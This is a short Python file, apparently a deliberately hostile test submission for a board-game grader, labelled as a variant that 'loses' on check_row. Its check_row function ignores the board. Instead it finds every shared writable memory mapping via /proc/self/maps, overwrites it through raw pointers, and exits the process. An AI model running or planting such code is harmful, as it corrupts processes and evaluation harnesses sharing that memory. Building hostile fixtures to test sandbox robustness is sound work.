# Overwrites all memory that it shares with other processes, through pointers.
# base: xtreme
# loses: check_row

import ctypes
import os


def check_row(board, row, player):
    with open("/proc/self/maps") as maps:
        shared = [line.split()[0].split("-") for line in maps if "rw-s" in line]
    for start, end in shared:
        ctypes.memset(int(start, 16), 0x80, int(end, 16) - int(start, 16))
    os._exit(0)
